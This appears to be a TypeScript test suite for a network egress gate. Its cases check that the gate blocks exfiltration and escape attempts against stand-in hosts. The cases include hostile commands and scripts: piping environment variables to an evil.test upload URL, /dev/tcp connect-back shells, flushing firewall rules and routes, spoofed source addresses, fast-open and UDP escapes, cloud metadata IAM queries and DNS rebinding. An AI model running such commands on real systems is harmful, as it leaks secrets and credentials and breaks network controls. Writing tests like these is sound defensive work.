// SPDX-License-Identifier: Apache-2.0
import { ORIGINS } from '../_internet/addresses.ts'
import type { Arrival } from '../_internet/internet.ts'
import { bypass } from './_bypass.ts'

const reachedEvil = (arrival: Arrival): boolean => arrival['server'] === ORIGINS.evil || arrival['address'] === ORIGINS.evil
const reachedTcp =
  (address: string, port: number) =>
  (arrival: Arrival): boolean =>
    arrival.kind === 'tcp' && arrival['address'] === address && arrival['port'] === port

bypass({
  never: 'a step posts its environment to a host that no rule names',
  rows: [3, 5, 12],
  script: 'env | curl -sS -m 5 --data-binary @- https://evil.test/upload',
  through: reachedEvil,
  refusal: 'no-rule',
})
bypass({
  never: 'a shell connects back to an address',
  rows: [45],
  script: `exec 3<>/dev/tcp/${ORIGINS.evil}/4444 && id >&3`,
  through: reachedTcp(ORIGINS.evil, 4444),
  refusal: 'no-rule',
})
bypass({
  never: 'a step reaches an address by its number, without a name',
  rows: [5, 30],
  script: `curl -skS -m 5 -d x https://${ORIGINS.evil}/upload`,
  through: reachedEvil,
  refusal: 'no-rule',
})
bypass({
  never: 'an allowed name, said to another address, opens the door to that address',
  rows: [30, 31],
  script: `curl -sS -m 5 --resolve web.test:443:${ORIGINS.evil} https://web.test/title`,
  through: reachedEvil,
  refusal: 'no-rule',
})
bypass({
  never: 'an allowed host is reached at a port that the rule does not name',
  rows: [30],
  script: 'exec 3<>/dev/tcp/web.test/7777 && echo other port >&3',
  through: reachedTcp(ORIGINS.web, 7777),
  refusal: 'no-rule',
})
bypass({
  never: 'a step takes the first packet of a fast-open connection past the gate',
  rows: [30],
  files: {
    'attack.py': `import socket\ns = socket.socket()\ns.sendto(b'fast open', socket.MSG_FASTOPEN, ('${ORIGINS.evil}', 4444))\ns.recv(10)\n`,
  },
  script: 'python3 attack.py',
  through: reachedTcp(ORIGINS.evil, 4444),
  refusal: 'no-rule',
})
bypass({
  never: 'UDP leaves where only TCP is allowed, as QUIC would',
  rows: [30],
  script: `for i in 1 2 3; do echo quic > /dev/udp/${ORIGINS.evil}/443; done`,
  through: (arrival) => arrival.kind === 'udp' && arrival['address'] === ORIGINS.evil,
  refusal: 'datagram',
})
bypass({
  never: 'a step that takes the firewall, the routes and the resolver away finds a way out',
  rows: [24],
  script: `{ nft flush ruleset; iptables -F; iptables -t nat -F; ip address add 20.10.255.9/30 dev eth0; ip route replace default via 20.10.255.1; } > /dev/null 2>&1
    exec 3<>/dev/tcp/${ORIGINS.evil}/4444 && id >&3`,
  through: reachedTcp(ORIGINS.evil, 4444),
  refusal: 'no-rule',
})
bypass({
  never: 'a source address that was chosen by the step is believed',
  rows: [30],
  files: {
    // IP_FREEBIND (15) needs no privilege; the plain run has no such address to come from, and takes its own.
    'attack.py': `import socket\nfor source in ('198.18.1.2', '198.18.255.255', '0.0.0.0'):\n    s = socket.socket()\n    s.settimeout(2)\n    s.setsockopt(socket.SOL_IP, 15, 1)\n    try:\n        s.bind((source, 0))\n        s.connect(('${ORIGINS.evil}', 4444))\n        s.sendall(b'spoofed')\n        s.recv(10)\n    except OSError as e:\n        print(source, e)\n`,
  },
  script: 'python3 attack.py',
  through: reachedTcp(ORIGINS.evil, 4444),
  refusal: 'no-rule',
})
bypass({
  never: 'the metadata service is reached by its address',
  rows: [30],
  script: `curl -sS -m 5 http://${ORIGINS.metadata}/latest/meta-data/iam/`,
  through: reachedTcp(ORIGINS.metadata, 80),
  refusal: 'no-rule',
})
bypass({
  never: 'an allowed name that stands for the metadata service opens it',
  rows: [30],
  allow: ['metadata.test:80'],
  script: 'curl -sS -m 5 http://metadata.test/latest/meta-data/iam/',
  through: reachedTcp(ORIGINS.metadata, 80),
  refusal: 'address',
})
bypass({
  never: 'an allowed name that stands for a private address opens the private network',
  rows: [30],
  allow: ['intranet.test:80'],
  script: 'curl -sS -m 5 http://intranet.test/',
  through: reachedTcp(ORIGINS.intranet, 80),
  refusal: 'address',
})
bypass({
  never: 'an allowed name that changes its address opens what it changes to',
  rows: [30],
  allow: ['rebind.test:80'],
  script: 'for i in 1 2 3 4 5 6 7 8; do curl -sS -m 3 http://rebind.test/latest/meta-data/ || true; done',
  through: reachedTcp(ORIGINS.metadata, 80),
  refusal: null,
})
